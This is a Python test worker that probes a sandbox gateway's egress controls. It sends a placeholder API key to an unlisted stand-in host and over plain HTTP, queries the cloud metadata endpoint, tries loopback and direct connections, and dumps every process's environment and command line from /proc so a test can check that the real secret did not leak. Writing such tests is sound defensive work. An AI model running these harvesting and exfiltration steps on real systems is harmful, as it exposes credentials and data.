# The worker of the egress tests: tries every way out it can think of and writes what it saw.
# Each result is one line on stdout, "PROBE <name> <result>"; everything it could read goes to
# /workspace/dump.txt, which the test searches for the real secret.
import json
import os
import socket
import ssl
import sys
import urllib.error
import urllib.request

config = json.load(open("/workspace/probe.json"))
host = config["host"]
placeholder = os.environ.get("MODEL_KEY", "")


def fetch(name, url, headers=None):
    request = urllib.request.Request(url, headers=headers or {})
    try:
        with urllib.request.urlopen(request, timeout=10) as response:
            body = response.read().decode("utf-8", "replace")
            print(f"PROBE {name} {response.status} {body.strip()}")
            return body
    except urllib.error.HTTPError as e:
        body = e.read().decode("utf-8", "replace")
        print(f"PROBE {name} {e.code} {body.strip()[:200]}")
        return body
    except Exception as e:  # noqa: BLE001 - a probe reports whatever stopped it
        print(f"PROBE {name} failed {type(e).__name__}")
        return ""


pages = []
tls, plain, other = config["tls_port"], config["plain_port"], config["other_port"]
pages.append(fetch("secret-host", f"https://{host}:{tls}/model", {"x-api-key": placeholder}))
pages.append(fetch("secret-host-again", f"https://{host}:{tls}/model?n=2", {"x-api-key": placeholder}))
pages.append(fetch("plain-allowed", f"http://{host}:{plain}/plain"))
pages.append(fetch("placeholder-to-plain", f"http://{host}:{plain}/leak", {"x-api-key": placeholder}))
pages.append(fetch("unlisted", "http://unlisted.example:80/"))
pages.append(fetch("placeholder-to-unlisted", "http://unlisted.example:80/", {"x-api-key": placeholder}))
pages.append(fetch("literal-ip", "http://203.0.113.7:80/"))
pages.append(fetch("metadata", "http://169.254.169.254/latest/meta-data/"))
# Listed by name only: the name resolves to the host's loopback, which needs an address entry.
pages.append(fetch("loopback-by-name", f"http://{host}:{other}/"))
pages.append(fetch("unlisted-tls", "https://unlisted.example:443/"))

# The host's loopback through the gateway (clients keep 127.0.0.1 off the proxy themselves).
try:
    with socket.create_connection(("127.0.0.1", 3128), timeout=10) as s:
        s.sendall(f"GET http://127.0.0.1:{other}/ HTTP/1.1\r\nHost: 127.0.0.1:{other}\r\nConnection: close\r\n\r\n".encode())
        answer = b""
        while chunk := s.recv(65536):
            answer += chunk
    page = answer.decode("utf-8", "replace")
    pages.append(page)
    print(f"PROBE host-loopback {page.split(' ')[1] if ' ' in page else 'nothing'}")
except OSError as e:
    print(f"PROBE host-loopback failed {type(e).__name__}")

# Around the gateway: straight to the host's ports, and a name lookup.
for name, port in [("direct-plain", plain), ("direct-tls", tls)]:
    try:
        socket.create_connection(("127.0.0.1", port), timeout=3).close()
        print(f"PROBE {name} connected")
    except OSError as e:
        print(f"PROBE {name} failed {type(e).__name__}")
try:
    socket.getaddrinfo(host, 443)
    print("PROBE dns resolved")
except OSError as e:
    print(f"PROBE dns failed {type(e).__name__}")

# Everything readable: the environment, every process's environment and command line, the
# gateway's directory, the task, the temporary directories, the error pages.
dump = [json.dumps(dict(os.environ))]
for pid in os.listdir("/proc"):
    for part in ("environ", "cmdline"):
        try:
            dump.append(open(f"/proc/{pid}/{part}", "rb").read().decode("utf-8", "replace"))
        except OSError:
            pass
for root in ("/run/forgeward", "/job", "/tmp", os.path.expanduser("~")):
    for directory, _, files in os.walk(root):
        for name in files:
            try:
                dump.append(open(os.path.join(directory, name), "rb").read().decode("utf-8", "replace"))
            except OSError:
                pass
dump.extend(pages)
with open("/workspace/dump.txt", "w") as out:
    out.write("\n".join(dump))
print("PROBE done")
